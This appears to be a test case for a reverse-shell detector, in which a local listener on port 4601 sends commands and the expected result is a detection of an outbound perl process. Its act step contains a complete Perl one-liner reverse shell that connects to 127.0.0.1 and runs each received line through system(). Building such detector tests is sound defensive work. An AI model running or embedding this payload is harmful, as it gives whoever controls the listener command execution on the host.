# R26: perl runs what a peer sends, by sh
# stage: equipped
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $perl
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4601

#: prepare
. lib/peers.sh
commander 4601 300 'id; sleep 0.1'
#: act
. lib/peers.sh
act
perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, sockaddr_in(4601, inet_aton("127.0.0.1"))) or die;
open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); system($_) while <STDIN>;' \
  < /dev/null > /dev/null 2>&1 & fact perl $!
await 'at $perl 0 socket:* && same $perl 0 $perl 1'
